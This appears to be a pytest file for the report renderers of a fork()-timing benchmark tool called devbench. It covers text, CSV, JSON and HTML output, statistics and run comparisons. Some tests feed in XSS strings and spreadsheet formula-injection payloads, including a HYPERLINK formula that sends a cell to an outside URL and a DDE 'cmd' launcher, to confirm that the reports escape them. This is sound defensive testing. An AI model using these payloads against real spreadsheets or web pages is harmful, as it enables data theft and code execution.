import pytest

from devbench.report.html import render_html
from devbench.report.table import render_text
from devbench.results.store import new_results, summarize


def data_with(target_name="phone", model="Pixel"):
    d = new_results("r1", "run", {"benchmark": {"scenarios": [{"name": "unpopulated", "pages": 0}]}}, "c.yaml")
    d["targets"].append(
        {
            "name": target_name,
            "transport": "adb",
            "status": "ok",
            "warnings": ["clocks not locked"],
            "device_changes": [{"setting": "vm.max_map_count", "before": "65530", "after": "66560", "restored": True}],
            "facts": {
                "machine": "aarch64",
                "kernel_release": "5.10",
                "android": True,
                "android_sdk": 33,
                "model": model,
                "cpus": 8,
                "mem_total_kb": 8000000,
            },
        }
    )
    d["samples"] = [
        {"target": target_name, "scenario": "unpopulated", "arm": "unnamed", "batch": 0, "fork_ns": [16_360_000]},
        {"target": target_name, "scenario": "unpopulated", "arm": "named", "batch": 0, "fork_ns": [18_350_000]},
    ]
    d["summary"] = summarize(d)
    return d


def test_seed_style_text_table():
    text = render_text(data_with())
    assert "unnamed VMAs" in text and "16.36ms" in text and "18.35ms" in text and "+12.16%" in text


def test_markdown_table():
    md = render_text(data_with(), markdown=True)
    assert "| unpopulated | 16.36ms | 18.35ms | +12.16% |" in md


def test_text_and_markdown_show_the_targets_warnings_under_the_table():
    text = render_text(data_with()).splitlines()
    assert "  ! warning: clocks not locked" in text
    assert text.index("  ! warning: clocks not locked") > next(i for i, ln in enumerate(text) if "+12.16%" in ln)
    assert "- warning: clocks not locked" in render_text(data_with(), markdown=True).splitlines()
    other = data_with()
    other["targets"][0]["warnings"] = []
    assert "warning" not in render_text(other)


def test_html_has_table_conditions_and_escapes_device_strings():
    html = render_html(data_with(model='<script>alert("x")</script>'))
    assert "16.36ms" in html and "+12.16%" in html and "clocks not locked" in html
    assert "vm.max_map_count 65530" in html and "(restored)" in html
    assert "<script>alert" not in html and "&lt;script&gt;" in html


# --- statistics in the report (simulated runs with the payload's shape) ---

import csv  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import re  # noqa: E402

from devbench.analysis import Options, analyze, compare  # noqa: E402
from devbench.analysis.compare import pair_targets  # noqa: E402
from devbench.report.compare_html import render_compare_html  # noqa: E402
from devbench.report.outputs import compare_output, run_output  # noqa: E402
from tests.simdata import ICOUNT_INFO, make_results  # noqa: E402

SHIFTS = {"unpopulated": 0.12, "1 page": 0.0, "10 pages": 0.04}


def sim(**kw):
    return make_results(shifts=SHIFTS, seed=21, **kw)


def test_text_table_is_the_seeds_with_ci_columns():
    d = sim()
    lines = render_text(d).splitlines()
    assert lines[0] == "phone"
    # 80 columns: p (Holm) and the verdict on a line of their own under each row (the means carry their sd)
    assert re.match(r"scenario +unnamed VMAs +named VMAs +REGRESSION +95% CI$", lines[2])
    row = lines[3]
    assert re.match(
        r"unpopulated +\d+\.\d\d±[\d.]+ms +\d+\.\d\d±[\d.]+ms +\+1\d\.\d\d% +\[\+\d+\.\d\d%, \+\d+\.\d\d%\]",
        row,
    )
    assert lines[4] == " " * len("unpopulated  ") + "p (Holm): <0.001; verdict: slower"
    label = analyze(d).rows()[1].verdict.label  # wrapped at 80 columns: the under-line and the next
    assert lines[5].startswith("1 page") and " ".join(x.strip() for x in lines[6:8]).find(label) > 0
    header_end = lines[2].index("REGRESSION") + len("REGRESSION")
    rows = [ln for ln in lines if ln.startswith(("unpopulated", "1 page", "10 pages"))]
    assert len(rows) == 3 and all(line[header_end - 1] == "%" for line in rows)  # right-aligned under the header


def test_csv_has_one_line_per_target_and_scenario():
    d = sim()
    a = analyze(d)
    rows = list(csv.DictReader(io.StringIO(run_output(d, a, "csv"))))
    assert [r["scenario"] for r in rows] == ["unpopulated", "1 page", "10 pages"]
    first = rows[0]
    assert float(first["unnamed_mean_ms"]) == pytest.approx(a.rows()[0].base.mean)
    assert float(first["ci_low_pct"]) > 5 and first["verdict"] == "slower" and first["design"] == "paired"
    assert int(first["unnamed_n"]) == 1000 and first["arm"] == ""
    d["targets"][0]["warnings"] = ["clocks not locked: device.cpufreq is not set", "thermal throttling seen"]
    rows = list(csv.DictReader(io.StringIO(run_output(d, analyze(d), "csv"))))
    assert {r["warnings"] for r in rows} == {"clocks not locked: device.cpufreq is not set | thermal throttling seen"}


def test_json_summary_for_ci():
    d = sim()
    out = json.loads(run_output(d, analyze(d), "json", fail_on_regression=5.0))
    assert out["schema"] == "devbench/summary/1" and out["run"]["id"] == d["run"]["id"]
    [t] = out["targets"]
    assert t["headline"].startswith("On phone, fork() with named VMAs is slower in unpopulated")
    assert [r["verdict"] for r in t["rows"]] == [r.verdict.label for r in analyze(d).rows()]
    assert t["rows"][0]["verdict"] == "slower"
    assert t["rows"][0]["unnamed"]["n"] == 1000 and t["rows"][0]["ci_pct"][0] > 5
    assert out["gate"]["failing"] == [{"target": "phone", "kernel": "5.10", "arch": "arm64", "vmas": 65536,
                                       "scenario": "unpopulated", "metric": "fork"}]


def test_html_is_self_contained_with_plots_and_statistics():
    html = render_html(_without_exits(sim()))
    assert html.count("<svg") == 7  # the CI plot, then a distribution and a timeline per scenario
    links = re.findall(r'(?:href|src)="([^"]*)"', html)
    assert links and all(not re.match(r"[a-z]+:", u) or u.startswith("data:") for u in links), links
    assert set(re.findall(r"https?://[^\"' <>)]+", html)) == {"http://www.w3.org/2000/svg"}
    assert "@media print" in html and 'name="viewport"' in html and "overflow-x: auto" in html
    assert "[+" in html and "paired by batch (10)" in html and "On phone, fork() with named VMAs is" in html
    assert 'href="results.json"' in html


def test_html_renders_device_records_generically_and_escaped():
    d = sim()
    d["targets"][0]["device"] = {"root": "<su>", "actions": [{"setting": "governor", "value": "performance"}]}
    d["targets"][0]["conditions"] = [{"when": "before", "temp_mc": {"zone<0>": 41000}}]
    html = render_html(d)
    assert "&lt;su&gt;" in html and "<su>" not in html
    assert "<td>governor</td>" in html
    # the reading in its unit, the raw unit said once: zone temperatures are milli-degrees C
    assert (
        "<th class=\"l\">zone&lt;0&gt; (°C)</th>" in html and "<td>41.0 °C</td>" in html and "milli-degrees C" in html
    )
    assert "device conditions" in html and "device preparation" in html


def test_html_with_a_missing_arm():
    d = sim()
    d["samples"] = [s for s in d["samples"] if s["arm"] == "unnamed"]
    html = render_html(d)
    assert "not measured" in html and "-</td>" in html
    assert "On phone, fork() with named VMAs is not measured in unpopulated, 1 page, 10 pages." in html


def test_pairing_of_targets_for_compare():
    a, b = sim(), make_results(seed=22, target="board")
    assert pair_targets(a, b) == ([("phone", "board")], [])
    a["targets"].append({**a["targets"][0], "name": "board"})
    b["targets"].append({**b["targets"][0], "name": "kut"})
    pairs, notes = pair_targets(a, b)
    assert pairs == [("board", "board")] and notes == [
        "target 'phone' is only in run A",
        "target 'kut' is only in run B",
    ]


def test_compare_finds_a_kernel_change_per_arm():
    sc_a, sc_b = (("unpopulated", 0, 16.0), ("1 page", 1, 22.0)), (("unpopulated", 0, 16.0), ("only b", 3, 1.0))
    a = [make_results(seed=31 + i, scenarios=sc_a, run_sd=0.01) for i in range(3)]
    b = [make_results(seed=41 + i, scale=1.10, scenarios=sc_b, run_sd=0.01) for i in range(3)]
    cmp = compare(a, b, Options())
    [pair] = cmp.pairs
    assert cmp.runs == (3, 3)
    assert [(r.scenario, r.arm) for r in pair.rows] == [("unpopulated", "unnamed"), ("unpopulated", "named")]
    assert all(
        r.verdict.kind == "slower" and r.effect.design == "independent" and r.effect.unit == "run" for r in pair.rows
    )
    assert all(r.effect.units == 3 and r.effect.ci_low_pct < 10 < r.effect.ci_high_pct for r in pair.rows)
    assert [r.metric for r in pair.exit_rows] == ["exit", "exit"]
    assert (
        "phone: scenario '1 page' is only in run A" in cmp.notes
        and "phone: scenario 'only b' is only in run B" in cmp.notes
    )
    text = compare_output(cmp, "text")
    assert re.search(r"unpopulated +named +\d+\.\d\d±[\d.]+ms +\d+\.\d\d±[\d.]+ms +\+\d+\.\d\d% +\[", text)
    assert "95% CI: two-sample t on log means of 3 runs a side; margin ±1%; ± is the sd" in text
    links = {
        "a_results": "../a/results.json",
        "b_results": "results.json",
        "a_report": "../a/report.html",
        "b_report": "report.html",
    }
    html = render_compare_html(cmp, a[0], b[0], links)
    assert html.count("<svg") == 3 and 'href="../a/results.json"' in html and "only in run B" in html
    rows = list(csv.DictReader(io.StringIO(compare_output(cmp, "csv"))))
    assert [r["arm"] for r in rows] == ["unnamed", "named"] and "a_mean_ms" in rows[0]


def test_compare_of_one_run_per_side_shows_the_change_and_no_verdict():
    a = make_results(seed=31, scenarios=(("unpopulated", 0, 16.0),))
    b = make_results(seed=32, scale=1.10, scenarios=(("unpopulated", 0, 16.0),))
    [pair] = compare(a, b).pairs
    for r in pair.rows:
        assert 0 < r.effect.change_pct < 20 and r.effect.ci_low_pct is None and r.p_holm is None
        assert (
            r.verdict.label.startswith("no verdict: 1 run(s) of A and 1 of B: ")
            and "run-to-run variance" in r.verdict.label
        )


def test_hostile_scenario_names_stay_text_in_tables_and_plots():
    evil = '</svg><script>alert(2)</script> $x$ & "q"'
    d = make_results(scenarios=((evil, 0, 16.0),), seed=3)
    html = render_html(d)
    assert "<script>alert(2)" not in html and "</svg><script>" not in html
    assert html.count("&lt;/svg&gt;&lt;script&gt;alert(2)&lt;/script&gt; $x$ &amp;") >= 4  # table, plots, titles



def test_the_childs_exit_is_summarized_and_shown_apart_from_the_fork():
    d = data_with()
    d["samples"][0]["exit_ns"] = [10_000_000]
    d["samples"][1]["exit_ns"] = [11_000_000]
    [row] = summarize(d, statistics=False)
    assert row["exit"] == {"unnamed_mean_ms": 10.0, "named_mean_ms": 11.0, "n": [1, 1], "change_pct": 10.0}
    text = render_text(d)
    assert (
        "exit (unpopulated): the child's exit, release to waitpid, means 10.00ms unnamed, 11.00ms named (+10.00%)"
        in " ".join(ln.strip() for ln in text.splitlines())  # wrapped at 80 columns
    )
    assert "exit (" not in render_text(data_with())  # schema-1 results: no exit times, no line


# -- issue 18: warnings where a reader looks, a report that reads at a glance -------------------

def _without_exits(d):
    for s in d["samples"]:
        s.pop("exit_ns", None)
    return d


def _with_exits(d):
    for s in d["samples"]:
        s["exit_ns"] = [v // 4 + (1_000_000 if s["arm"] == "named" else 0) for v in s["fork_ns"]]
    return d


def test_json_summary_carries_each_targets_warnings_and_what_they_break():
    from devbench.analysis import analyze
    from devbench.report.summary import run_summary

    d = data_with()
    d["targets"][0]["warnings"] = [
        "clocks not locked: device.cpufreq is not set",
        "resumed: 2 payload invocation(s) left",
    ]
    out = run_summary(d, analyze(d))
    assert out["targets"][0]["warnings"] == [
        {"message": "clocks not locked: device.cpufreq is not set", "breaks": ["clocks_locked"]},
        {"message": "resumed: 2 payload invocation(s) left", "breaks": []}]


def test_html_reads_headline_and_warnings_first_then_table_plots_device():
    d = _with_exits(sim())
    d["targets"][0]["warnings"] = ["thermal throttling seen: policy0 ran at 300000 kHz", "<b>device text</b>"]
    html = render_html(d)
    order = [html.index(x) for x in ('class="headline"', 'class="banner"', 'class="results"', "<svg",
                                     "<h3>Device</h3>", "<h3>Statistics</h3>")]
    assert order == sorted(order)
    banner = html[html.index('class="banner"'):html.index("</div>", html.index('class="banner"'))]
    assert (
        "2 warnings on phone" in banner
        and "thermal throttling seen" in banner
        and "(not: no thermal throttling)" in banner
    )
    assert "&lt;b&gt;device text&lt;/b&gt;" in banner and "<b>device" not in html
    # units in the headers, "mean fork time"; numbers without a unit of their own
    assert "<th>mean fork time, unnamed VMAs (ms), ± sd</th>" in html
    assert "<th>mean fork time, named VMAs (ms), ± sd</th>" in html
    # p-values that play no part in the verdict say so
    assert "<th>p Welch (descriptive)</th>" in html and "play no part in the verdict" in html
    assert "Contents" not in html  # one target: no contents list


def test_html_shows_the_childs_exit_in_a_table_and_a_plot_per_scenario():
    d = _with_exits(sim())
    html = render_html(d)
    assert html.count("<svg") == 7 + 3  # one exit distribution per scenario
    assert "Distribution of child exit times: unpopulated" in html and "child exit time (ms)" in html
    table = html[html.index('class="exits"'):html.index("</table>", html.index('class="exits"'))]
    assert "<th>mean exit time, unnamed VMAs (ms)</th>" in table and table.count("<tr>") == 4
    assert "no part in the verdict" in html
    plain = render_html(_without_exits(sim()))  # schema 1 results: no exit times, no exit table
    assert 'class="exits"' not in plain and plain.count("<svg") == 7


def test_html_contents_list_for_several_targets_links_each_section():
    import re

    a = sim()
    b = sim(target="board")
    a["targets"] += b["targets"]
    a["samples"] += b["samples"]
    a["targets"][1]["warnings"] = ["Android emulator: emulator timings are not device timings"]
    html = render_html(a)
    assert "<strong>Contents</strong>" in html
    anchors = re.findall(r'<a href="#(target-t\d)">', html)
    assert anchors == ["target-t0", "target-t1"] and all(f'<section id="{x}">' in html for x in anchors)
    assert "board</a> <span class=\"warn\">(1 warning)</span>" in html
    assert html.count('class="banner"') == 1 and "a real device, not an emulator" in html


def test_compare_page_shows_both_runs_devices_and_warnings():
    a = make_results(seed=31, model="Pixel 6")
    b = make_results(seed=32, scale=1.05, model="Pixel <7>")
    b["targets"][0]["warnings"] = ["thermal throttling seen: zone0 (cpu) at 96.0 °C"]
    b["targets"][0]["facts"]["mem_total_kb"] = 4 * 1048576
    links = {"a_results": "a.json", "b_results": "b.json", "a_report": "a.html", "b_report": "b.html"}
    html = render_compare_html(compare(a, b, Options()), a, b, links)
    devices = html[html.index("The two runs' devices"):]
    a_part, b_part = devices[:devices.index("run B: run-32")], devices[devices.index("run B: run-32"):]
    assert "run A: run-31" in a_part and "Pixel 6" in a_part and "no warnings" in a_part and "7.6 GiB" in a_part
    assert "Pixel &lt;7&gt;" in b_part and "4.0 GiB" in b_part
    assert (
        "1 warning on phone in run B" in b_part
        and "thermal throttling seen" in b_part
        and "no thermal throttling" in b_part
    )


def test_csv_cells_from_a_device_or_results_file_never_become_formulas():
    """Issue 24 item 7: a target, a scenario or a warning that starts like a spreadsheet formula
    (=, +, -, @, tab, CR) is written as text (a leading '); numbers stay numbers."""
    d = sim()
    for t in d["targets"]:
        t["warnings"] = ['=HYPERLINK("http://x/?"&A1,"ok")']
    old = d["samples"][0]["target"]
    for s in d["samples"]:
        s["target"] = "@SUM(1+1)*cmd|' /C calc'!A0" if s["target"] == old else s["target"]
    for t in d["targets"]:
        if t["name"] == old:
            t["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    text = run_output(d, analyze(d), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["target"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in rows)
    assert all(r["warnings"] == "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")" for r in rows)
    cells = [v for r in rows for v in r.values()]
    assert not any(v.startswith(("=", "+", "@")) for v in cells)
    # a negative number is still a number, written as one
    assert all(not v.startswith("-") or float(v) < 0 for v in cells if v)


def icount_run(seed: int = 61) -> dict:
    """The quick start's kind of run: an icount guest, spread about 0.1% of the mean, a clock
    warning recorded as an older devbench did, a long error message."""
    d = make_results(shifts={"unpopulated": 0.0037, "1 page": 0.0056, "10 pages": 0.001}, seed=seed, sigma=0.001,
                     process_sd=0.0005, batch_sd=0.0005, arm_batch_sd=0.0002)
    rec = d["targets"][0]
    rec.update(transport="qemu", transport_info=ICOUNT_INFO,
               warnings=["QEMU guest with instruction counting (clock: icount): a time is the instruction-path cost "
                         "under emulation, 1 ns per guest instruction: no cache or memory effects; not a device's "
                         "timing", "clocks not locked: device.cpufreq is not set"])
    return d


@pytest.mark.parametrize("markdown", [False, True])
def test_the_pasteable_table_fits_80_columns_and_marks_only_warnings(markdown):
    """Pasted into an 80-column mail: no line wider (markdown: but its table rows), the
    verdict on a line of its own when the row would not fit; "!" marks warnings alone, the
    exit lines only describe; no outlier notices on a spread of 0.1%; no clock warning where
    the clock is icount."""
    d = icount_run()
    d["errors"].append({"target": "phone", "scenario": None, "arm": None, "kind": "device-error",
                        "message": "a message " * 30})
    text = render_text(d, markdown=markdown)
    lines = text.splitlines()
    assert all(len(ln) <= 80 for ln in lines if not ln.startswith("|")), text
    assert "outliers" not in text and "clocks not locked" not in text
    assert "instruction-path cost" in text
    if markdown:
        assert any(ln.startswith("- exit (unpopulated): the child's exit") for ln in lines)
        return
    header, first = lines[2], lines[3]
    assert header.split() == ["scenario", "unnamed", "VMAs", "named", "VMAs", "REGRESSION", "95%", "CI"]
    assert first.startswith("unpopulated") and lines[4].strip().startswith("p (Holm): ")
    assert "; verdict: " in lines[4]
    marked = [ln for ln in lines if ln.startswith("  ! ")]
    assert [ln.split(":")[0] for ln in marked] == ["  ! warning", "  ! device-error"]
    assert any(ln.startswith("  - exit (unpopulated): the child's exit") for ln in lines)


def test_an_interruption_a_resume_answered_is_no_warning():
    d = icount_run()
    d["errors"].append({"target": "phone", "scenario": None, "arm": None, "kind": "interrupted",
                        "message": "interrupted during measure", "resumed": True})
    text = render_text(d)
    assert "! interrupted" not in text and "  - resumed after: interrupted during measure" in text
    assert "interrupted during measure" not in render_html(d).split("<h2", 2)[-1].split("Statistics")[0]


def test_html_says_what_an_icount_time_is_and_why_a_figure_is_empty():
    d = icount_run()
    d["samples"] = [s for s in d["samples"] if (s["scenario"], s["arm"]) != ("10 pages", "named")]
    d["errors"].append({"target": "phone", "scenario": "10 pages", "arm": "named", "kind": "map-count-too-low",
                        "message": "vm.max_map_count 65530 is below 70000"})
    d["targets"][0]["device"] = {"locked_khz": {"policy0": 1800000}, "procfs": "/proc"}
    html = render_html(d)
    assert "fork time (ms)" not in html and "instruction time, icount (ms)" in html
    assert "mean fork instruction time (icount), unnamed VMAs (ms)" in html
    assert "named refused: vm.max_map_count 65530 is below 70000" in html and ">no data<" not in html
    assert "% of unnamed&#x27;s median" in html
    assert ">locked_khz<" not in html and "locked frequency (kHz)" in html and "procfs mounted at" in html
    assert ">0.00ms<" not in html and "clocks not locked" not in html
